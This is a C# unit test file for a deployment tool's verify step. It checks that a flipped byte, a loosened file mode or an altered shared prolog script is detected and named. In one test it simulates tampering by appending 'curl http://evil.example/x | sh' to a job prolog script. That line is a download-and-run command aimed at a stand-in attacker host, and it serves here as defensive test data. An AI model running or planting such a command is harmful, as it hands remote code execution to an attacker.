using Jobstats.Processes;
using Jobstats.Deploy.Components;
using Jobstats.Deploy.Engine;
using Jobstats.Deploy.Tests.Support;
using Jobstats.Testing;

namespace Jobstats.Deploy.Tests.Engine;

/// <summary>
/// verify proves the files are still the ones apply wrote (content, mode, owner), through the same drift detection as
/// plan: a flipped byte in the exporter or a line appended to the shared prolog fails it, naming the file.
/// </summary>
public class VerifyFilesTests
{
    private static CancellationToken Ct => TestContext.Current.CancellationToken;
    private const string Exporter = $"{Layout.BinDir}/jobstats-exporter";

    private static async Task<List<CheckResult>> FileChecksAsync(Harness h)
    {
        using var http = new HttpClient { Timeout = TimeSpan.FromSeconds(1) };
        var doc = await new Verifier(h.Targets, http, new ProcessRunner()).VerifyAsync(await h.DeploymentAsync(), null, "/bin/false", Ct);
        return doc.Checks.Where(c => c.Check == "files").ToList();
    }

    private static void FlipFirstByte(string path)
    {
        var bytes = File.ReadAllBytes(path);
        bytes[0] ^= 0x01;
        File.WriteAllBytes(path, bytes);
    }

    [Fact]
    public async Task Local_target_untouched_passes_a_flipped_byte_or_a_changed_mode_fails_naming_the_file()
    {
        using var root = new TempDirectory();
        var h = new Harness(TestInventories.Local(root));
        await h.ApplySucceededAsync();
        var check = Assert.Single(await FileChecksAsync(h));
        Assert.True(check.Passed, check.Reason);
        Assert.Contains("content, mode and owner", check.Reason);

        var exporter = root["/root" + Exporter];
        var mode = File.GetUnixFileMode(exporter);
        FlipFirstByte(exporter);
        check = Assert.Single(await FileChecksAsync(h));
        Assert.False(check.Passed);
        Assert.Contains($"{Exporter}: content differs", check.Reason);

        FlipFirstByte(exporter);
        File.SetUnixFileMode(exporter, mode | UnixFileMode.OtherWrite);
        check = Assert.Single(await FileChecksAsync(h));
        Assert.False(check.Passed);
        Assert.Contains($"{Exporter}: mode", check.Reason);
        Assert.DoesNotContain("content differs", check.Reason);

        File.SetUnixFileMode(exporter, mode);
        Assert.True(Assert.Single(await FileChecksAsync(h)).Passed);
    }

    [Fact]
    public async Task Image_target_is_checked_in_the_image_and_on_shared_storage()
    {
        using var root = new TempDirectory();
        using var fake = new FakeCmsh("category.dgx.nodes=dgx-001,dgx-002");
        var h = Harness.DgxImage(root, fake);
        await h.ApplySucceededAsync();
        var checks = await FileChecksAsync(h);
        Assert.Equal(2, checks.Count); // the image, and the head node's shared storage
        Assert.All(checks, c => Assert.True(c.Passed, c.Reason));

        FlipFirstByte(root["/images/dgx-image" + Exporter]);
        File.AppendAllText(root[$"/head{Layout.SharedScriptDir}/prolog-jobstats.sh"], "curl http://evil.example/x | sh\n");
        checks = await FileChecksAsync(h);
        var image = Assert.Single(checks, c => c.Host == "dgx-image");
        Assert.False(image.Passed);
        Assert.Contains($"{Exporter}: content differs", image.Reason);
        var head = Assert.Single(checks, c => c.Host != "dgx-image");
        Assert.False(head.Passed);
        Assert.Contains($"{Layout.SharedScriptDir}/prolog-jobstats.sh: content differs", head.Reason);
    }
}
